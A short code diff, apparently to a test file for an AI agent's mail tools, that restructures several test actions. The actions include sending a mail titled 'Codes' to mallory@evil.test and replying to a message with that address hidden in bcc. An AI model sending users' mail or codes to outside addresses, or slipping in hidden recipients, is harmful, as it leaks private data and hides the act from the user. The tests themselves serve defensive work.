@@ -66,11 +66,11 @@ const mailed = (name: string, tool: string, input: object): Act => ({
   name: `mail: ${name}`,
   calls: () => [load("mail"), [call(tool, input)]],
 });
-const evil = { subject: "Codes", text: "All letters" };
 const sends: Act[] = [
-  mailed("send a mail", "mail_send", { to: ["mallory@evil.test"], ...evil }),
+  mailed("send a mail", "mail_send", { to: ["mallory@evil.test"], subject: "Codes", text: "All letters" }),
   mailed("answer with a hidden recipient", "mail_send", {
-    ...{ to: ["grace@reef.test"], bcc: ["mallory@evil.test"], ...evil, reply_to: "1.3.INBOX" },
+    ...{ to: ["grace@reef.test"], bcc: ["mallory@evil.test"] },
+    ...{ subject: "Re", text: "All codes", reply_to: "1.3.INBOX" },
   }),
   mailed("save an attachment", "mail_save_attachment", { id: "1.5.INBOX", part: "2" }),
 ];
